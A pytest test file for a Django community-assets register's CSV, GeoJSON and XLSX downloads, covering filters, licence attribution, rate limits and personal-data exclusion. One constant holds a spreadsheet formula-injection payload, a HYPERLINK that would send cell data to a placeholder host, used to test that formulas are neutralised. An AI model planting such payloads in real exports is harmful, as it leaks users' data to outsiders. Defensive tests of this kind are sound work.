"""Downloads of the register: each format, the same filters as the API, licence and
attribution in every file, no spreadsheet formulas, no personal data, chunked reads."""

import csv
import io
import json
import zipfile

import openpyxl
import pytest

from django.db import connection
from django.test.utils import CaptureQueriesContext

from assets_register.opendata import downloads

from ..factories import AssetFactory
from .test_api import PRIVATE

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def body(response):
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def csv_rows(client, query=""):
    response = client.get(f"/downloads/register.csv{query}")
    return list(csv.DictReader(io.StringIO(body(response).decode())))


def geojson(client, query=""):
    return json.loads(body(client.get(f"/downloads/register.geojson{query}")))


def workbook(client, query=""):
    return openpyxl.load_workbook(io.BytesIO(body(client.get(f"/downloads/register.xlsx{query}"))))


def sheet_rows(book):
    rows = list(book["Places"].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


QUERIES = [
    "",
    "?area=E05009076",
    "?area=E01020600",
    "?category=library,community_centre",
    "?status=closed&status=at_risk",
    "?bbox=-1.65,54.8,-1.6,54.83",
    "?q=red+front",
    "?source=osm-pubs",
    "?area=E06000047&category=pub&status=open",
]


@pytest.mark.parametrize("query", QUERIES)
def test_each_format_selects_what_the_api_selects(client, register, query):
    api = client.get(f"/api/assets{query}{'&' if query else '?'}limit=500").json()
    expected = [item["id"] for item in api["items"]]
    assert [int(row["id"]) for row in csv_rows(client, query)] == expected
    assert [f["id"] for f in geojson(client, query)["features"]] == expected
    assert [row["id"] for row in sheet_rows(workbook(client, query))] == expected


def test_csv_is_plain_with_licence_per_row_and_in_headers(client, register):
    response = client.get("/downloads/register.csv?area=E05009077")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Link"] == '<http://testserver/about/data/>; rel="license"'
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="community-assets-E05009077-')
    assert disposition.endswith('.csv"')
    text = body(response).decode()
    lines = text.split("\r\n")
    assert lines[0] == ",".join(downloads.FIELDS)
    assert not any(line.startswith("#") for line in lines)
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(text))}
    osm = rows["The Daleside Arms"]
    assert (osm["licence"], osm["source"], osm["source_name"]) == (
        "ODbL-1.0",
        "osm-pubs",
        "OpenStreetMap",
    )
    assert (osm["latitude"], osm["longitude"]) == ("54.780000", "-1.720000")  # not '-1.72
    assert osm["ward_code"] == "E05009077" and osm["council_name"] == "County Durham"
    hall = rows["Esh Village Hall"]
    assert hall["licence"] == "OGL-UK-3.0" and hall["latitude"] == ""


def test_opened_and_closed_come_from_the_history(client, register):
    rows = {row["name"]: row for row in csv_rows(client)}
    assert rows["The Red Lion"]["opened"] == "1890" and rows["The Red Lion"]["closed"] == ""
    assert rows["Sacriston Library"]["closed"] == "2019-03"
    assert rows["Sacriston Library"]["status"] == "closed"
    assert rows["The Red Lion"]["url"] == f"http://testserver/assets/{register.pub.pk}/"


def test_geojson_carries_licence_and_attribution(client, register):
    response = client.get("/downloads/register.geojson")
    assert response["Content-Type"] == "application/geo+json"
    assert response["Link"].endswith('rel="license"')
    collection = json.loads(body(response))
    assert collection["type"] == "FeatureCollection"
    assert "Open Government Licence v3.0" in collection["licence"]
    assert collection["licences"]["ODbL-1.0"]["url"].startswith("https://opendatacommons.org")
    assert collection["attribution"] == downloads.ATTRIBUTION_LINES
    features = {f["properties"]["name"]: f for f in collection["features"]}
    assert features["The Red Lion"]["geometry"] == {
        "type": "Point",
        "coordinates": [-1.626, 54.816],
    }
    assert features["Esh Village Hall"]["geometry"] is None
    assert features["The Daleside Arms"]["properties"]["licence"] == "ODbL-1.0"
    assert "latitude" not in features["The Red Lion"]["properties"]


def test_xlsx_has_a_licence_sheet_and_metadata(client, register):
    response = client.get("/downloads/register.xlsx?category=pub")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert "-selection-" in response["Content-Disposition"]
    assert response["Content-Disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(body(response)))
    assert book.sheetnames == ["Places", "Licence"]
    places = book["Places"]
    assert [cell.value for cell in places[1]] == list(downloads.FIELDS)
    assert places["A1"].font.b
    rows = sheet_rows(book)
    red_lion = next(row for row in rows if row["name"] == "The Red Lion")
    assert red_lion["id"] == register.pub.pk and red_lion["longitude"] == -1.626
    text = [
        str(cell)
        for row in book["Licence"].iter_rows(values_only=True)
        for cell in row
        if cell is not None
    ]
    for line in downloads.ATTRIBUTION_LINES:
        assert line in text
    assert "Places" in text and str(len(rows)) in text
    assert "Places kinds: pub" in text
    assert any("Open Government Licence v3.0" in cell for cell in text)
    assert "http://testserver/about/data/" in text
    assert "Open Government Licence" in book.properties.description
    assert book.properties.title.endswith(": places")


def test_formulas_are_neutralised(client, register):
    AssetFactory(
        name=ATTACK,
        address="+44 Front Street",
        operator="@SUM(A1:A9)",
        council=register.durham,
        ward=register.ward,
    )
    row = next(r for r in csv_rows(client) if "HYPERLINK" in r["name"])
    assert row["name"] == "'" + ATTACK
    assert row["address"] == "'+44 Front Street" and row["operator"] == "'@SUM(A1:A9)"
    assert row["longitude"] == "-1.626000"  # a number, left alone

    feature = next(f for f in geojson(client)["features"] if "HYPERLINK" in f["properties"]["name"])
    assert feature["properties"]["name"] == ATTACK  # JSON is data, not a spreadsheet

    book = workbook(client)
    places = book["Places"]
    cells = [cell for row in places.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    name = next(cell for cell in cells if cell.value == ATTACK)
    assert name.data_type == "s" and name.quotePrefix
    address = next(cell for cell in cells if cell.value == "+44 Front Street")
    assert address.data_type == "s" and address.quotePrefix
    plain = next(cell for cell in cells if cell.value == "The Red Lion")
    assert not plain.quotePrefix


def test_awkward_text_survives_the_xlsx(client, register):
    AssetFactory(
        name="Tom & Jerry's <Bar>\x07 ", address="  Two spaces first", council=register.durham
    )
    names = {row["name"] for row in sheet_rows(workbook(client))}
    assert "Tom & Jerry's <Bar> " in names
    addresses = {row["address"] for row in sheet_rows(workbook(client))}
    assert "  Two spaces first" in addresses


def test_bad_requests(client, register):
    assert client.get("/downloads/register.pdf").status_code == 404
    assert client.get("/downloads/register.csv?area=E05999999").status_code == 404
    bad = client.get("/downloads/register.csv?bbox=1,2")
    assert bad.status_code == 400 and b"bbox" in bad.content
    assert client.get("/downloads/register.csv?category=casino").status_code == 400
    assert client.post("/downloads/register.csv").status_code == 405
    assert len(csv_rows(client, "?area=&category=")) == 5  # empty form fields mean "any"


def test_downloads_are_rate_limited(client, register, settings):
    settings.DOWNLOAD_RATE_PER_IP = "2/h"
    assert client.get("/downloads/register.csv").status_code == 200
    assert client.get("/downloads/register.geojson").status_code == 200
    refused = client.get("/downloads/register.xlsx")
    assert refused.status_code == 429 and refused["Retry-After"] == "3600"
    assert client.get("/downloads/register.xlsx", REMOTE_ADDR="192.0.2.9").status_code == 200


def test_reads_in_chunks_with_a_fixed_number_of_queries(client, register, monkeypatch):
    monkeypatch.setattr(downloads, "CHUNK", 2)
    rows = csv_rows(client)
    assert len(rows) == 5 and [int(r["id"]) for r in rows] == sorted(int(r["id"]) for r in rows)
    assert next(r for r in rows if r["name"] == "Sacriston Library")["closed"] == "2019-03"

    def queries():
        with CaptureQueriesContext(connection) as captured:
            body(client.get("/downloads/register.xlsx"))
        return len(captured)

    monkeypatch.setattr(downloads, "CHUNK", 1000)
    few = queries()
    for n in range(40):
        AssetFactory(name=f"Extra {n}", council=register.durham)
    assert queries() == few


def test_pages_link_to_their_data(client, register):
    home = client.get("/").content.decode()
    for fmt in ("csv", "xlsx", "geojson"):
        assert f'href="/downloads/register.{fmt}"' in home
        assert f'formaction="/downloads/register.{fmt}"' in home
    assert 'href="/api/docs"' in home
    ward = client.get("/areas/E05009076/").content.decode()
    assert 'href="/downloads/register.csv?area=E05009076"' in ward
    lsoa = client.get("/areas/E01020600/").content.decode()
    assert 'href="/downloads/register.geojson?area=E01020600"' in lsoa
    search = client.get("/search/", {"q": "red lion"}).content.decode()
    assert 'href="/downloads/register.xlsx?q=red%20lion"' in search


def test_no_personal_data_in_any_file(client, register):
    for query in QUERIES:
        for fmt in ("csv", "geojson", "xlsx"):
            data = body(client.get(f"/downloads/register.{fmt}{query}"))
            if fmt == "xlsx":
                with zipfile.ZipFile(io.BytesIO(data)) as archive:
                    data = b"".join(archive.read(name) for name in archive.namelist())
            text = data.decode()
            for private in PRIVATE:
                assert private not in text, f"{private} in {fmt}{query}"
